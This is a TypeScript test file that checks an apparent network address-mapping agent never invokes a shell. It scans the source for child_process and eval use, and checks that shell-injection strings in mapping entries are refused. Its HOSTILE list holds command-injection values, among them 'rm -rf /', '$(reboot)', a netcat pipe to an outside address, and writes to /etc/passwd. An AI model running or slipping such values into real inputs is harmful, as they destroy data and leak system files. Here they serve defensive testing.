// Nothing read from a file reaches a shell. Statically: only src/kernel/exec.ts
// touches child_process, it imports spawn and nothing else, and
// no source file asks for a shell. Behaviourally: addresses full of shell
// syntax are refused before anything runs, and execFile passes such text to
// a program as one literal argument.
import { readdirSync, readFileSync } from 'node:fs';
import { chmod, writeFile } from 'node:fs/promises';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { Agent } from '../../src/agent/agent.js';
import { execFile } from '../../src/kernel/exec.js';
import { FakeNft } from '../fakes/nft.js';
import { Reconciler } from '../../src/kernel/reconciler.js';
import { FakeConntrack } from '../fakes/conntrack.js';
import { FakeRoutes } from '../fakes/routes.js';
import { mappingFileText, memoryLogger, tempDir } from './fakes.js';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const SRC = join(ROOT, 'src');

/** Every source file under src/, relative to the repository root, with its text (comments removed). */
function sources(): Map<string, string> {
  const out = new Map<string, string>();
  for (const entry of readdirSync(SRC, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile() || !/\.(ts|mts|cts|js|mjs|cjs)$/.test(entry.name)) continue;
    const path = join(entry.parentPath, entry.name);
    out.set(relative(ROOT, path), stripComments(readFileSync(path, 'utf8')));
  }
  return out;
}

/** Block comments and line comments (those after white space or at a line start, so "https://" survives). */
function stripComments(text: string): string {
  return text.replace(/\/\*[\s\S]*?\*\//g, '').replace(/(^|\s)\/\/.*$/gm, '$1');
}

const CHILD_PROCESS = /(?:from\s*|require\s*\(\s*|import\s*\(\s*)['"](?:node:)?child_process['"]/;

describe('static: no shell anywhere in src/', () => {
  const files = sources();

  test('the scan sees the source tree', () => {
    expect(files.size).toBeGreaterThan(20);
    for (const f of [
      'src/kernel/exec.ts',
      'src/agent/drift.ts',
      'src/agent/agent.ts',
      'src/kernel/nft/lib.ts',
      'src/kernel/routes.ts',
      'src/kernel/conntrack.ts',
    ])
      expect([...files.keys()]).toContain(f);
  });

  test('child_process is imported only by src/kernel/exec.ts', () => {
    const importers = [...files].filter(([, text]) => CHILD_PROCESS.test(text)).map(([f]) => f);
    expect(importers).toContain('src/kernel/exec.ts');
    expect(importers.filter((f) => f !== 'src/kernel/exec.ts')).toEqual([]);
  });

  test('it imports spawn and nothing else from it (no exec, execSync, namespace or default import)', () => {
    for (const f of ['src/kernel/exec.ts']) {
      const text = files.get(f)!;
      const imports = [...text.matchAll(/import\s+([\s\S]*?)\s+from\s*['"](?:node:)?child_process['"]/g)].map((m) => m[1]!);
      for (const clause of imports) {
        expect(clause, f).toMatch(/^\{[^}]*\}$/);
        const values = clause
          .slice(1, -1)
          .split(',')
          .map((s) => s.trim())
          .filter((s) => s && !s.startsWith('type '));
        expect(values, f).toEqual(['spawn']);
      }
      expect(text, f).not.toMatch(/require\s*\(|import\s*\(/);
    }
  });

  test('no file calls exec( or execSync( (or their file and sync cousins from child_process)', () => {
    for (const [f, text] of files) {
      // RegExp.prototype.exec (`/re/.exec(line)`) is a method call and fine.
      expect(text, f).not.toMatch(/(?<![.\w$])exec\s*\(/);
      expect(text, f).not.toMatch(/\b(?:execSync|execFileSync|spawnSync|fork)\s*\(/);
    }
  });

  test('no file asks for a shell: every `shell:` option is false', () => {
    for (const [f, text] of files) {
      expect(text, f).not.toMatch(/shell\s*:\s*true/);
      for (const m of text.matchAll(/\bshell\s*:\s*([^,}\s]+)/g)) expect(m[1], `${f}: ${m[0]}`).toBe('false');
    }
  });

  test('src/kernel/exec.ts spawns in two places (a command run to its end, a child living on), each with shell: false, an argument vector and no string command', () => {
    const text = files.get('src/kernel/exec.ts')!;
    const spawns = [...text.matchAll(/\bspawn\s*\(/g)].filter((m) => !/typeof\s*$/.test(text.slice(0, m.index)));
    expect(spawns).toHaveLength(2);
    for (const s of spawns) {
      const call = text.slice(s.index, text.indexOf('});', s.index));
      expect(call).toMatch(/^spawn\(command, args, \{/);
      expect(call).toMatch(/\bshell:\s*false\b/);
    }
  });

  test('no file evaluates text as code', () => {
    for (const [f, text] of files) {
      expect(text, f).not.toMatch(/(?<![.\w$])eval\s*\(/);
      expect(text, f).not.toMatch(/new\s+Function\s*\(/);
      expect(text, f).not.toMatch(/['"](?:node:)?vm['"]/);
    }
  });
});

describe('behaviour: shell syntax in a mapping file goes nowhere', () => {
  const HOSTILE = [
    'fdaa::1; rm -rf /',
    '$(reboot)',
    '`id`',
    'fdaa::1\nflush ruleset',
    'fdaa::1 && reboot',
    'fdaa::1|nc 203.0.113.1 80',
    'fdaa::1>/etc/passwd',
    "'; flush ruleset; '",
    '${IFS}reboot',
    'fdaa::1\u0000',
    '-f/etc/shadow',
    '--help',
  ];

  let dir: string;
  let cleanup: () => Promise<void>;
  let nft: FakeNft;
  let routes: FakeRoutes;
  let conntrack: FakeConntrack;
  let logger: ReturnType<typeof memoryLogger>;
  let agent: Agent;
  let mappings: string;

  beforeEach(async () => {
    ({ dir, cleanup } = await tempDir('addrmap-noshell-'));
    mappings = join(dir, 'mappings.json');
    const cmdline = join(dir, 'cmdline');
    await writeFile(cmdline, 'quiet\n');
    nft = new FakeNft();
    routes = new FakeRoutes();
    routes.reachable.set('fdaa::1', { dev: 'eth0' });
    conntrack = new FakeConntrack();
    logger = memoryLogger();
    agent = new Agent({
      paths: { config: join(dir, 'config.json'), mappings, stateDir: join(dir, 'state') },
      env: { ADDRMAP_ENABLED: '1', ADDRMAP_CMDLINE_FILE: cmdline },
      reconciler: new Reconciler({ nft, routes, conntrack }),
      log: logger.log,
      daemon: false,
    });
    await agent.init();
  });

  afterEach(async () => {
    await cleanup();
  });

  const push = async (text: string) => {
    await writeFile(mappings, text, { mode: 0o644 });
    await chmod(mappings, 0o644);
  };

  /** Two valid mappings, then the hostile one at mappings[2]. */
  const fileWith = (side: 'from' | 'to', bad: string) =>
    mappingFileText(5, [['fd00::1', 'fdaa::1'], ['fd00::2', 'fdaa::1'], side === 'from' ? [bad, 'fdaa::1'] : ['fd00::3', bad]]);

  for (const side of ['from', 'to'] as const) {
    test.each(HOSTILE)(`%j as ${side} is refused, naming the entry, and nothing runs`, async (bad) => {
      await push(fileWith(side, bad));
      const r = await agent.pass();
      expect(r.outcome).toBe('refused');
      // "to: <reason>", or "to is a prefix but from is an address; ..." for text with a slash.
      expect(r.message).toMatch(new RegExp(`^mappings\\[2\\]: ${side}[: ]`));
      expect(logger.records.at(-1)).toMatchObject({
        event: 'refused',
        entry: 'mappings[2]',
        reason: expect.stringMatching(new RegExp(`^${side}[: ]`)),
      });
      // The hostile text is named by its place, never quoted (refusals are shown in world-readable status).
      const reason = String(logger.records.at(-1)!.reason);
      for (const shown of [r.message, reason]) {
        expect(shown).not.toContain(bad);
        expect(shown).not.toContain(JSON.stringify(bad));
        expect(shown).not.toContain(JSON.stringify(bad).slice(1, -1));
      }
      expect(nft.history).toEqual([]);
      expect(await nft.listTable('inet', 'addrmap')).toBeNull();
      expect(routes.calls.lookup).toEqual([]);
      expect(routes.calls.apply).toEqual([]);
      expect(conntrack.calls).toEqual([]);
    });
  }

  test('after a valid file, a hostile push runs nothing more and leaves the kernel as it was', async () => {
    await push(mappingFileText(5, [['fd00::1', 'fdaa::1']]));
    expect((await agent.pass()).outcome).toBe('applied');
    const before = await nft.listTable('inet', 'addrmap');
    const runs = nft.history.length;
    const routeCalls = routes.calls.apply.length;
    const ctCalls = conntrack.calls.length;
    for (const bad of HOSTILE) {
      await push(fileWith('to', bad));
      expect((await agent.pass()).outcome).toBe('refused');
    }
    expect(nft.history).toHaveLength(runs);
    expect(routes.calls.apply).toHaveLength(routeCalls);
    expect(conntrack.calls).toHaveLength(ctCalls);
    expect(await nft.listTable('inet', 'addrmap')).toEqual(before);
  });

  test('execFile hands shell syntax to the program as literal arguments', async () => {
    // An argument cannot hold a NUL byte at all; every other one arrives intact.
    const args = HOSTILE.filter((s) => !s.includes('\u0000'));
    const res = await execFile(process.execPath, ['-e', 'process.stdout.write(JSON.stringify(process.argv.slice(1)))', '--', ...args]);
    expect(res.code).toBe(0);
    expect(JSON.parse(res.stdout)).toEqual(args);
  });
});
